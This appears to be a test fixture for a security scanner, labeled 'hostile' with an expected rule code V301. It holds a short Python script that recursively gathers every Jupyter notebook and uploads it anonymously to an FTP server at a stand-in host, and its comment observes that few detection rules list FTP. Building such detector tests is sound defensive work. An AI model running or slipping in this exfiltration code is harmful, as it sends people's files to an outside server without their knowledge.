# label: hostile
# expect: V301
# note: Uploads every notebook to a public FTP server, a protocol that few rules list.
from ftplib import FTP
from pathlib import Path

with FTP("ftp.example.net", timeout=8) as ftp:
    ftp.login()
    ftp.cwd("incoming")
    for p in Path(".").rglob("*.ipynb"):
        with p.open("rb") as f:
            ftp.storbinary(f"STOR {p.name}", f)
